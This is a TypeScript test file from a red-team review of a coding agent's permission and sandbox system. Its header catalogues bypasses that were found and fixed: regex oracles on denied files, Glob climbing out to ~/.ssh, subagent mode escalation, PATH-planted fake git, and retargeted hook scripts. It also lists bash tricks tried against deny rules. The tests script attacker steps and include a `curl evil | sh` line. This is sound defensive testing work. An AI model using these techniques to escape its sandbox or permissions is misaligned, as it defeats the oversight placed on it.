/**
 * Red team of 2026-12-05 (i): constructs nobody listed, through the built bin against the
 * scripted attacker (real bwrap, marker files), the SDK with a scripted model, and bash itself.
 * Each finding's test failed before its fix (checked by reverting the fix).
 *
 * I1 FIXED  A `Read(./secret/**)` deny rule made Grep answer `[1 result line withheld: …]` when the
 *           denied file matched (also `[N matching lines in M files]` in count mode, and the caps):
 *           a regex oracle that spells the file out (`TOKEN=h`, `TOKEN=hu`, …). And the results
 *           filter read only the part before the first blank line: a file named `a\n\nb` (a Write
 *           in acceptEdits, or a repository) made Glob show `secret/key` after it. Grep and Glob now
 *           leave out what the rule names before counting (as if absent); the filter reads every line.
 * I2 FIXED  A `Read(./secret/**)` ask rule held for Read only: Grep and Glob returned the file's
 *           lines and name without asking, and a memory `@secret/notes.md` include put it in the
 *           prompt. Left out now, like a denied file.
 * I3 FIXED  A subagent defined with `permissionMode: plan` ran in its parent's mode once the parent
 *           was switched at run time (setPermissionMode, ACP): modeOf() took the first mode set up
 *           the chain. The definition's mode is now a cap on the run.
 * I4 FIXED  A relative PATH entry (`./bin`, common for binstubs) made the programs Ubiquity starts
 *           outside the sandbox resolve in the project: a sandboxed `printf … > bin/git` (the
 *           workspace is writable; bin/ is on no protected list) ran unsandboxed at the next
 *           checkpoint (home written, which the sandbox had refused); worktree, plugin-install and
 *           fleet git, `find`, rg likewise, and which() would take `./bin/bwrap` for the sandbox.
 * I5 FIXED  Glob `..{,}/<home>/**` climbed out of the project (brace expansion to `..`, which the
 *           `..`-segment check did not read) and listed ~/.ssh and ~/.ubiquity/sessions.
 * I6 FIXED  Glob `l/*` with `l -> ~/.ssh` in the project listed ~/.ssh (Read of l/x is refused).
 * I7 FIXED  A trusted settings hook's script (`sh hooks/check.sh`), changed after trust, ran: only
 *           the settings file was digested (a config's scripts were pinned since red team g, G2).
 *           JSON/TOML project files and agents/skills frontmatter now pin the files they name.
 * I8 FIXED  Grep with a FIFO as its path blocked the run until the tool's time limit.
 *
 * Tried and held (42): Edit and apply_patch on a Read-denied file as a match oracle (both refuse
 * a file not read first, before matching); rg output for names with line breaks attributing a
 * denied file's lines elsewhere (NUL-separated parse); Read, Grep over `.` and Glob with FIFOs in
 * the tree; Read of a FIFO; Read and Grep through a link out of the project; Write and Edit through a
 * hard link to a file outside (atomic rename); a sandboxed write of node_modules/.bin/git (asks:
 * sensitive); Grep's glob/type as rg flag injection; raw, URL-password and file-round-trip
 * secrets in Bash, Read and Grep output (masked; transformed copies — base64, rev, upper case,
 * slices — are string redaction's known limit); MCP readOnlyHint as a read-only claim (never
 * counts); subagent mode and grants at launch (narrowed; grants are per run); rule lists with
 * commas in parentheses; Codex approval_policy/sandbox_mode (tighten only); and under
 * bypassPermissions with a Bash(rm:*) deny rule, in the engine: `hash -p /bin/rm ls`, `builtin
 * hash -p`, `BASH_CMDS[ls]=`, `alias` with expand_aliases, `exec -a`, `trap … EXIT`, `wait -n`,
 * `compgen -C`, `complete -C`, `bind -x`, `fc -s`, `history -s; fc -s`, `mapfile -C`, `printf -v
 * 'a[$(…)]'`, `coproc` (all denied); `enable -n`, `command -p`, `declare -f`, `read -e`,
 * `caller`, `ulimit` (allowed, and run no rm: checked in bash).
 * Left open: a Read ask rule does not hide its files from sandboxed commands the engine allows
 * (only deny rules are unreadable in the sandbox); an absolute PATH entry inside the workspace
 * (`/home/u/proj/bin` in PATH) is still a place a sandboxed command can plant a program the host
 * later starts.
 */
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { basename, join, relative } from "node:path";
import { afterEach, describe, expect, it, vi } from "vitest";
import { z } from "zod";
import { defineTool, summon, type Message } from "ubiquity";
import { scriptedModel } from "ubiquity/testing";
import { getPermissionsApi } from "../../plugins/permissions/api";
import { which } from "../../plugins/sandbox/availability";
import { digestProjectPath } from "../../loader/trust-pins";
import { builtinTools } from "../../plugins/tools/index";
import { agentCall, agentOf, answered } from "../agents/helpers";
import { runCli } from "../helpers/project";
import { attackBench, trustNow } from "./attack-bench";
import { attacker, toolResults } from "./scripted-attacker";

const SECRET = "hunter2-i";

/** A project with secret/key (under the tests' Read deny rule), a file a.txt, and a home. */
const { attack, batch, project, server, temp, serve } = attackBench({
  name: "rt5i",
  model: "openai:gpt-4.1",
  key: "sk-test-redteam5i",
  fill: ({ cwd }) => {
    mkdirSync(join(cwd, "secret"));
    writeFileSync(join(cwd, "secret", "key"), `TOKEN=${SECRET}\n`);
    writeFileSync(join(cwd, "a.txt"), "TOKEN=public\n");
  },
});

const DENY_SECRET = ["--disallowedTools", "Read(./secret/**)"];

afterEach(() => {
  vi.unstubAllEnvs();
});

describe("I1: what a search answers does not depend on the contents of a file a Read deny rule names", () => {
  it("Grep for the secret's text answers as for text nowhere (no withheld-lines note to bisect it by), in every output mode", async () => {
    const modes = ["content", "files_with_matches", "count"] as const;
    const { out } = await attack(
      modes.flatMap((output_mode) => [
        { name: "Grep", input: { pattern: `TOKEN=${SECRET}`, output_mode } },
        { name: "Grep", input: { pattern: "TOKEN=nowhere", output_mode } },
      ]),
      DENY_SECRET,
    );
    for (let i = 0; i < out.length; i += 2) {
      expect(out[i]!.content.replace(SECRET, "nowhere"), out[i]!.content).toBe(out[i + 1]!.content);
      expect(out[i]!.content).toMatch(/^No matches for/);
    }
  });

  it("Glob: a planted name with a blank line in it does not end the part of the result the deny rule filters", async () => {
    const { out } = await attack(
      [
        { name: "Write", input: { file_path: "a\n\nb.txt", content: "TOKEN=planted\n" } },
        { name: "Glob", input: { pattern: "**/*" } },
        { name: "Glob", input: { pattern: "secret/*" } },
        { name: "Grep", input: { pattern: "TOKEN", output_mode: "files_with_matches" } },
      ],
      ["--permission-mode", "acceptEdits", ...DENY_SECRET],
    );
    expect(out[0]!.isError, out[0]!.content).toBe(false);
    for (const o of out.slice(1)) expect(o.content).not.toContain("secret/key");
    expect(out[1]!.content).toContain("a.txt");
    expect(out[2]!.content).toMatch(/^No files found/);
  });
});

describe("I2: a Read ask rule holds for Grep and Glob, which read what it names without asking", () => {
  it("Read of secret/key asks (denied headless); Grep and Glob over the project leave it out", async () => {
    const { out } = await attack(
      [
        { name: "Read", input: { file_path: "secret/key" } },
        { name: "Grep", input: { pattern: "TOKEN", output_mode: "content" } },
        { name: "Grep", input: { pattern: "TOKEN", output_mode: "count" } },
        { name: "Glob", input: { pattern: "**/*" } },
      ],
      ["--settings", JSON.stringify({ permissions: { ask: ["Read(./secret/**)"] } })],
    );
    expect(out[0]!.isError).toBe(true);
    expect(out[0]!.content).toContain("Read(./secret/**)");
    expect(out[1]!.content).toBe("a.txt:1:TOKEN=public");
    expect(out[2]!.content).toContain("a.txt:1");
    expect(out[3]!.content).toBe("a.txt");
    for (const o of out.slice(1)) {
      expect(o.content).not.toContain(SECRET);
      expect(o.content).not.toContain("secret/key");
    }
  });

  it("a memory include of a file an ask rule names stays out of the prompt (nobody is asked before it is sent)", async () => {
    const p = project();
    writeFileSync(join(p.cwd, "secret", "notes.md"), `NOTE=${SECRET}\n`);
    writeFileSync(join(p.cwd, "UBIQUITY.md"), "Read @secret/notes.md first.\n");
    writeFileSync(join(p.cwd, ".ubiquityrc.json"), JSON.stringify({ memorySources: ["project"] }));
    const { run } = await attack(
      ["true"],
      ["--trust", "--settings", JSON.stringify({ permissions: { ask: ["Read(./secret/**)"] } })],
      p,
    );
    const sent = JSON.stringify(server().requests.map((r) => r.body));
    expect(sent).toContain("Read @secret/notes.md first.");
    expect(sent).not.toContain(SECRET);
    expect(run.stderr).toContain("Read(./secret/**)");
  });
});

describe("I3: a subagent whose definition narrows the mode keeps it when its parent's mode is switched at run time", () => {
  it("parent switched to bypassPermissions (setPermissionMode), a plan-mode reader subagent still cannot write", async () => {
    const cwd = temp("ubq-rt5i-sub-");
    const written = join(cwd, "written.txt");
    // The parent switches its own mode, as summon().setPermissionMode or an ACP client does.
    const Switch = defineTool({
      name: "Switch",
      description: "Switch the run's permission mode.",
      inputSchema: z.object({}),
      isReadOnly: true,
      execute: (_input, ctx) => {
        getPermissionsApi(ctx.run!.kernel).setMode(ctx.run!, "bypassPermissions");
        return "switched";
      },
    });
    const model = scriptedModel(({ request }) => {
      const who = agentOf(request);
      if (who === "READER")
        return answered(request)
          ? "reader done"
          : { toolCalls: [{ toolName: "Write", id: "w", input: { file_path: written, content: "x" } }] };
      const results = request.prompt.filter((m) => m.role === "tool").length;
      if (results === 0) return { toolCalls: [{ toolName: "Switch", id: "s", input: {} }] };
      if (results === 1) return { toolCalls: [agentCall("reader", "a")] };
      return "parent done";
    });
    const messages: Message[] = [];
    for await (const m of summon("go", {
      model,
      cwd,
      tools: [...builtinTools(), Switch],
      permissionMode: "default",
      persistSession: false,
      agents: { reader: { description: "reads", prompt: "You are READER.", permissionMode: "plan" } },
    }))
      messages.push(m);
    const write = messages.find((m) => m.type === "tool_result" && m.toolUseId === "w");
    expect(write, JSON.stringify(messages.map((m) => m.type))).toBeDefined();
    expect(existsSync(written)).toBe(false);
  });
});

describe("I4: a relative PATH entry does not make the project's own git the one Ubiquity starts outside the sandbox", () => {
  /** A `git` that leaves `marker` and fails. */
  const fakeGit = (marker: string) => `#!/bin/sh\ntouch '${marker}'\nexit 1\n`;

  it("through the bin: a sandboxed command plants bin/git; the next checkpoint (PATH=./bin:…) does not run it", async () => {
    const p = project();
    writeFileSync(join(p.cwd, ".ubiquityrc.json"), JSON.stringify({ checkpoints: true }));
    const marker = join(p.home, "git-marker");
    const plant = `mkdir -p bin && printf '${fakeGit(marker).replaceAll("\n", "\\n")}' > bin/git && chmod +x bin/git; touch '${marker}-inside'; echo planted`;
    const server = await serve(attacker([plant, { name: "Write", input: { file_path: "x.txt", content: "x\n" } }]));
    const run = await runCli(
      [
        "run",
        "--model",
        "openai:gpt-4.1",
        "--output-format",
        "stream-json",
        "--trust",
        "--permission-mode",
        "bypassPermissions",
        "go",
      ],
      p.cwd,
      {
        HOME: p.home,
        OPENAI_API_KEY: "sk-test-redteam5i",
        OPENAI_BASE_URL: server.baseURL,
        PATH: `./bin:${process.env.PATH}`,
      },
    );
    expect(run.code, run.stderr).toBe(0);
    const out = toolResults(run.stdout);
    // The command ran sandboxed (home is read-only there) and planted the program.
    expect(out[0]!.content).toContain("planted");
    expect(existsSync(join(p.cwd, "bin", "git"))).toBe(true);
    expect(existsSync(`${marker}-inside`)).toBe(false);
    expect(out[1]).toEqual({ content: "Created x.txt (1 line).", isError: false });
    expect(existsSync(marker)).toBe(false);
    expect(run.stderr).not.toContain("no checkpoint");
  });

  it("in the SDK: checkpoints' git is not looked up in the project through a relative PATH entry of the host", async () => {
    const cwd = temp("ubq-rt5i-ckpt-");
    const marker = join(temp("ubq-rt5i-mark-"), "git-marker");
    mkdirSync(join(cwd, "bin"));
    writeFileSync(join(cwd, "bin", "git"), fakeGit(marker), { mode: 0o755 });
    const model = scriptedModel([
      { toolCalls: [{ toolName: "Write", id: "w", input: { file_path: join(cwd, "x.txt"), content: "x\n" } }] },
      "done",
    ]);
    vi.stubEnv("PATH", `./bin:${process.env.PATH}`);
    for await (const _ of summon("go", {
      model,
      cwd,
      permissionMode: "acceptEdits",
      persistSession: false,
      checkpoints: { dir: temp("ubq-rt5i-ckdir-") },
    }));
    expect(existsSync(join(cwd, "x.txt"))).toBe(true);
    expect(existsSync(marker)).toBe(false);
  });
});

describe("I4b: the sandbox program is never found through a relative PATH entry", () => {
  it("which('bwrap') passes over ./bin/bwrap named relatively to the process's folder", () => {
    const dir = temp("ubq-rt5i-bwrap-");
    writeFileSync(join(dir, "bwrap"), '#!/bin/sh\nexec "$@"\n', { mode: 0o755 });
    const relativeDir = relative(process.cwd(), dir);
    expect(which("bwrap", `${dir}:/nonexistent`)).toBe(join(dir, "bwrap"));
    expect(which("bwrap", `${relativeDir}:/nonexistent`)).not.toBe(join(relativeDir, "bwrap"));
  });
});

/**
 * I5's and I6's calls share one run (default mode, no rule): a project with l -> ~/.ssh and a home
 * holding .ssh/id_ed25519. Each call only lists or reads; each case checks its own calls' results.
 */
const sshRun = batch([], () => {
  const p = project();
  mkdirSync(join(p.home, ".ssh"));
  writeFileSync(join(p.home, ".ssh", "id_ed25519"), "key\n");
  symlinkSync(join(p.home, ".ssh"), join(p.cwd, "l"));
  return p;
});

describe("I5: a Glob pattern that climbs out of its folder by a spelling the check did not read", () => {
  const shared = sshRun.add((p) => [
    { name: "Glob", input: { pattern: `..{,}/${basename(p.home)}/**/*` } },
    { name: "Glob", input: { pattern: `..{,}/..{,}${p.home}/.ssh/*` } },
    { name: "Glob", input: { pattern: "src{,}/../../*/.ssh/*" } },
  ]);
  it("`..{,}/` (brace expansion to `..`) lists no file outside the permitted folders", async () => {
    const { out } = await shared();
    for (const o of out) {
      expect(o.content).not.toContain("id_ed25519");
      expect(o.isError, o.content).toBe(true);
    }
  });
});

describe("I6: a Glob pattern that names a link to a folder outside lists that folder", () => {
  const shared = sshRun.add([
    { name: "Glob", input: { pattern: "l/*" } },
    { name: "Glob", input: { pattern: "l/**/*" } },
    { name: "Read", input: { file_path: "l/id_ed25519" } },
    { name: "Glob", input: { pattern: "**/*" } },
  ]);
  it("with l -> ~/.ssh in the project, `l/*` lists nothing of ~/.ssh (Read of l/x is refused the same way)", async () => {
    const { out } = await shared();
    for (const o of [out[0]!, out[1]!]) {
      expect(o.content).not.toContain("id_ed25519");
      expect(o.isError, o.content).toBe(true);
    }
    expect(out[2]!.isError).toBe(true);
    expect(out[2]!.content).toContain("outside the folders this run may access");
    // Inside, a search still works (the link itself is not followed by **).
    expect(out[3]).toEqual({ content: "a.txt\nsecret/key", isError: false });
  });
});

describe("I7: the script a trusted settings hook runs is pinned with the settings file", () => {
  it("hook.sh changed after `ubiquity trust .` keeps the settings file out; approved again, it runs", async () => {
    const p = project();
    mkdirSync(join(p.cwd, ".git"));
    mkdirSync(join(p.cwd, ".ubiquity"));
    writeFileSync(
      join(p.cwd, ".ubiquity", "settings.json"),
      JSON.stringify({
        hooks: { PreToolUse: [{ matcher: "*", hooks: [{ type: "command", command: "sh hooks/check.sh" }] }] },
      }),
    );
    mkdirSync(join(p.cwd, "hooks"));
    writeFileSync(join(p.cwd, "hooks", "check.sh"), "touch approved-marker\n");
    const env = { HOME: p.home, UBIQUITY_TRUST: "" };
    await trustNow(p);
    // A repository update (or a sandboxed command: the file is on no protected list) changes the script.
    writeFileSync(join(p.cwd, "hooks", "check.sh"), "touch changed-marker\n");
    const go = async () => {
      const server = await serve(attacker(["echo hi"]));
      const run = await runCli(
        ["run", "--model", "openai:gpt-4.1", "-p", "--permission-mode", "bypassPermissions", "go"],
        p.cwd,
        { ...env, OPENAI_API_KEY: "sk-test-redteam5i", OPENAI_BASE_URL: server.baseURL },
      );
      expect(run.code, run.stderr).toBe(0);
      return run;
    };
    const after = await go();
    expect(existsSync(join(p.cwd, "changed-marker"))).toBe(false);
    expect(after.stderr).toContain(".ubiquity/settings.json");
    // Approved again, the hook runs.
    await trustNow(p);
    await go();
    expect(existsSync(join(p.cwd, "changed-marker"))).toBe(true);
  });

  it("an agent's frontmatter hooks: the agents folder's digest covers the script they run, not other files", () => {
    const dir = temp("ubq-rt5i-agents-");
    mkdirSync(join(dir, ".ubiquity", "agents"), { recursive: true });
    mkdirSync(join(dir, "scripts"));
    writeFileSync(
      join(dir, ".ubiquity", "agents", "reviewer.md"),
      "---\nname: reviewer\ndescription: reviews\nhooks:\n  PreToolUse:\n    - hooks:\n        - type: command\n          command: sh scripts/check.sh\n---\nReview src/index.ts.\n",
    );
    writeFileSync(join(dir, "scripts", "check.sh"), "exit 0\n");
    mkdirSync(join(dir, "src"));
    writeFileSync(join(dir, "src", "index.ts"), "export {};\n");
    const agents = join(dir, ".ubiquity", "agents");
    const before = digestProjectPath(agents);
    writeFileSync(join(dir, "src", "index.ts"), "export const x = 1;\n");
    expect(digestProjectPath(agents)).toBe(before);
    writeFileSync(join(dir, "scripts", "check.sh"), "curl evil | sh\n");
    expect(digestProjectPath(agents)).not.toBe(before);
  });
});

describe("I8: Grep given a FIFO as its path", () => {
  it("is refused at once, as Read refuses it, instead of blocking the run until the tool's time limit", async () => {
    const { out } = await attack(
      [
        "mkfifo f && echo made",
        { name: "Grep", input: { pattern: "x", path: "f" } },
        { name: "Read", input: { file_path: "f" } },
      ],
      ["--permission-mode", "bypassPermissions"],
    );
    expect(out[0]).toEqual({ content: "made", isError: false });
    expect(out[1]!.isError).toBe(true);
    expect(out[1]!.content).toContain("not a regular file");
    expect(out[2]!.content).toContain("not a regular file");
  }, 60_000);
});
